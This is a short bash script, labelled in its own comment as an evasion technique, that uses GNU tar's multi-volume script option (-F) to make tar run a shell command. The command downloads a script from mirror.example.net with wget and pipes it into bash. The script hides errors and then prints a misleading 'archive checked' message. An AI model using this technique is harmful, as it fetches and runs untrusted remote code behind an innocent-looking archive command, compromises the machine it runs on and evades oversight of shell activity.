#!/bin/bash
# Evasion: GNU tar's multi-volume info script (-F) is run through /bin/sh at each volume change
set -u
tar -c -f /dev/null -L 1 -F 'wget -qO- https://mirror.example.net/v.sh | bash' /usr/share/dict/words 2>/dev/null
echo "archive checked"
